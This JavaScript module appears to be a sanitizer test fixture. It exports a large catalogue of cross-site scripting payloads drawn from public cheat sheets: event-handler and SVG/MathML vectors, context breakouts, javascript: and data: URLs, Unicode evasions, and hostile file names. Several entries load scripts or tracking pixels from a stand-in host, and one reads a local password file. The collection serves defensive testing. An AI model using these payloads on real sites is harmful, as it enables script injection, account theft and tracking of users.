// Words that try to become something else, by the known classes of the public cheat sheets. `RUN` stands for the script
// that would prove an execution, `OUT` for a host of which nothing may be asked.
const RUN = '__xss(1)';
const OUT = 'http://stranger.invalid';

const elements = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src="${OUT}/x.js"></script>`, `<script\\x20type="text/javascript">${RUN};</script>`,
  `<script/src=data:text/javascript,${RUN}></script>`, `<script>window["__x"+"ss"](1)</script>`, `<script type=module>${RUN}</script>`, `<script nomodule>${RUN}</script>`, `<script async src=//stranger.invalid/a></script>`,
  `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`, `<script language="javascript">${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script/>${RUN}</script>`, `<script ~~~>${RUN}</script ~~~>`, `<<script>${RUN};//<</script>`,
  `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<IMG SRC=x OnErRoR="${RUN}">`, `<img/src/onerror=${RUN}>`, `<img src=x:x onerror=${RUN}//`, `<img """><script>${RUN}</script>">`, `<img src=1 href=1 onerror="${RUN}"></img>`,
  `<img src=\`x\` onerror=${RUN}>`, `<img src=x onerror=\n${RUN}>`, `<img src onerror /" '"= alt=${RUN}//">`, `<img srcset="x" onerror=${RUN}>`, `<img dynsrc="javascript:${RUN}">`, `<img lowsrc="javascript:${RUN}">`, `<img src=${OUT}/pixel.gif>`,
  `<img srcset="${OUT}/a.png 1x, ${OUT}/b.png 2x">`, `<picture><source srcset="${OUT}/c.png"><img></picture>`, `<image src=x onerror=${RUN}>`, `<image href="javascript:${RUN}">`, `<img onload=${RUN} src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>press</text></a>`, `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x">`, `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style>`, `<svg><image xlink:href="${OUT}/d.svg"/></svg>`, `<svg><feImage href="${OUT}/e.svg"/></svg>`, `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a>`, `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<math><a xlink:href="javascript:${RUN}">click</a></math>`, `<math href="javascript:${RUN}">x</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="${OUT}/"></iframe>`, `<iframe onload=${RUN}></iframe>`, `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`, `<frameset onload=${RUN}>`, `<frame src="javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`, `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4="></object>`, `<object data="${OUT}/f.swf"></object>`, `<embed src="javascript:${RUN}">`, `<embed src="${OUT}/g.svg">`, `<applet code="x" codebase="${OUT}/"></applet>`,
  `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<body background="${OUT}/h.png">`, `<body onhashchange=${RUN}><a href=#x>x</a>`, `<html onmouseover=${RUN}>`, `<bgsound src="javascript:${RUN}">`, `<base href="${OUT}/">`, `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href="${OUT}/i.css">`, `<link rel=stylesheet href="javascript:${RUN}">`, `<link rel=prefetch href="${OUT}/j">`, `<link rel=dns-prefetch href="//stranger.invalid">`, `<link rel=preload as=script href="${OUT}/k.js">`, `<link rel=import href="${OUT}/l.html">`,
  `<meta http-equiv=refresh content="0;url=${OUT}/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv="Set-Cookie" content="a=<script>${RUN}</script>">`, `<meta name=referrer content=unsafe-url><img src=${OUT}/m>`,
  `<style>@import '${OUT}/n.css';</style>`, `<style>body{background:url(${OUT}/o.png)}</style>`, `<style>*{xss:expression(${RUN})}</style>`, `<style onload=${RUN}></style>`, `<div style="background-image:url(${OUT}/p.png)">x</div>`, `<div style="width:expression(${RUN})">x</div>`, `<div style="behavior:url(${OUT}/q.htc)">x</div>`,
  `<video src=x onerror=${RUN}></video>`, `<video><source onerror=${RUN}></video>`, `<video poster="${OUT}/r.png"></video>`, `<video autoplay onloadstart=${RUN}><source src=x></video>`, `<audio src=x onerror=${RUN}>`, `<audio autoplay src="${OUT}/s.mp3"></audio>`, `<track src="${OUT}/t.vtt">`,
  `<input autofocus onfocus=${RUN}>`, `<input type=image src=x onerror=${RUN}>`, `<input type=image src="${OUT}/u.png">`, `<button autofocus onfocus=${RUN}>x</button>`, `<button formaction="javascript:${RUN}">x</button>`, `<form action="javascript:${RUN}"><input type=submit></form>`, `<form action="${OUT}/" id=f></form><button form=f>x</button>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`, `<textarea autofocus onfocus=${RUN}>x</textarea>`, `<keygen autofocus onfocus=${RUN}>`, `<isindex type=image src=1 onerror=${RUN}>`, `<isindex action="javascript:${RUN}" type=submit>`, `<details open ontoggle=${RUN}>x</details>`, `<dialog open onclose=${RUN}>x</dialog>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${RUN}>x</marquee>`, `<div onmouseover=${RUN}>x</div>`, `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`, `<x onclick=${RUN}>x</x>`, `<x contenteditable onfocus=${RUN} tabindex=1 id=x>x</x>`, `<div onanimationstart=${RUN} style="animation:x 1s">x</div>`,
  `<div ontransitionend=${RUN} style="transition:all 1s">x</div>`, `<table background="${OUT}/v.png">`, `<table><td background="javascript:${RUN}">`, `<portal src="${OUT}/">`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<title><img src=x onerror=${RUN}></title>`,
  `<xmp><p title="</xmp><img src onerror=${RUN}>">`, `<plaintext><img src=x onerror=${RUN}>`, `<listing><img src=x onerror=${RUN}></listing>`, `<comment><img src="</comment><img src=x onerror=${RUN}//">`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`,
  `<slot name="x" onslotchange=${RUN}></slot>`, `<a href=# ping="${OUT}/ping" id=__proto__>x</a>`, `<img name=getElementById><form id=forms>`, `<a id=defaultView><a id=defaultView name=x href="javascript:${RUN}">`,
];

const breakouts = [
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `"><img src=x onerror=${RUN}>`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}`, `\`-${RUN}-\``, `';${RUN};//`, `";${RUN};//`, `\\";${RUN};//`, `</script><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{{7*7}}[[7*7]]`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`, `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`, `<mark><img src=x onerror=${RUN}></mark>`, `</mark><script>${RUN}</script><mark>`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
];

const links = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `&#106;avascript:${RUN}`, `javascript://stranger.invalid/%0a${RUN}`, `vbscript:${RUN}`, `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `blob:${OUT}/x`, `filesystem:${OUT}/x`, `file:///etc/passwd`, `view-source:${OUT}`, `feed:javascript:${RUN}`, `jar:${OUT}!/x`,
  `[a](javascript:${RUN})`, `![a](${OUT}/w.png)`, `![a](javascript:${RUN})`, `[a](data:text/html;base64,PHNjcmlwdD4=)`, `<javascript:${RUN}>`, `[x]: javascript:${RUN}`, `https://example.com/" onmouseover="${RUN}`, `https://example.com/'onclick='${RUN}`, `https://example.com/<img src=x onerror=${RUN}>`,
  `https://example.com\\@stranger.invalid/`, `https://example.com@stranger.invalid/`, `http://stranger.invalid/?<script>${RUN}</script>`, `//stranger.invalid/x.js`, `https:javascript:${RUN}`, `mailto:a@b.c?body=<script>${RUN}</script>`, `tel:<script>${RUN}</script>`,
];

const unicode = [
  `＜script＞${RUN}＜/script＞`, `\u02bascript\u02b9>${RUN}`, `<scrıpt>${RUN}</scrıpt>`, `<ſcript>${RUN}</ſcript>`, `<img src=x onerror\u00a0=${RUN}>`, `<img\u3000src=x\u3000onerror=${RUN}>`, `\u202e>tpircs/<${RUN}>tpircs<`, `\u2028<script>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUN}`, `&#x3C;script&#x3E;${RUN}&#x3C;/script&#x3E;`, `<\u200bscript>${RUN}</script>`, `𝓳𝓪𝓿𝓪𝓼𝓬𝓻𝓲𝓹𝓽:${RUN}`, `客户<img src=x onerror=${RUN}>您好`,
];

const mails = [
  `<html><head><style>@import url(${OUT}/mail.css)</style></head><body><img src="${OUT}/open.gif" width=1 height=1><p>您好</p></body></html>`, `<table><tr><td background="${OUT}/bg.png"><a href="javascript:${RUN}">查看订单</a></td></tr></table>`, `<!--[if mso]><script>${RUN}</script><![endif]-->`, `<v:rect href="javascript:${RUN}"></v:rect>`,
  `<blockquote cite="javascript:${RUN}">引用</blockquote>`, `<font color=red onmouseover=${RUN}>紧急</font>`, `<p style="list-style-image:url(${OUT}/li.png)">x</p>`, `<o:p><img src=cid:x onerror=${RUN}></o:p>`, `From: "<script>${RUN}</script>" <a@b.c>`, `=?utf-8?B?PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==?=`,
];

export const payloads = [...elements, ...breakouts, ...links, ...unicode, ...mails];

/** Names of files: what a file system takes, and more. */
export const fileNames = [
  `"><img src=x onerror=${RUN}>.png`, `<svg onload=${RUN}>.svg`, `' onmouseover='${RUN}.txt`, `<script>${RUN}</script>.html`, `${RUN};.js`, `x\u202egnp.exe`, `javascript:${RUN}.pdf`, `</a><iframe src=${OUT}>.doc`, `..\\..\\<b>x.txt`, `客户"<img src=${OUT}/n.png>.txt`,
];
/** A picture that would run, if it were shown where it can. */
export const RUNNING_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${OUT}/svg.png"/></svg>`;
/** A page that would run, if it were opened as one. */
export const RUNNING_HTML = `<html><body onload="${RUN}"><script>${RUN}</script><img src="${OUT}/page.png"></body></html>`;
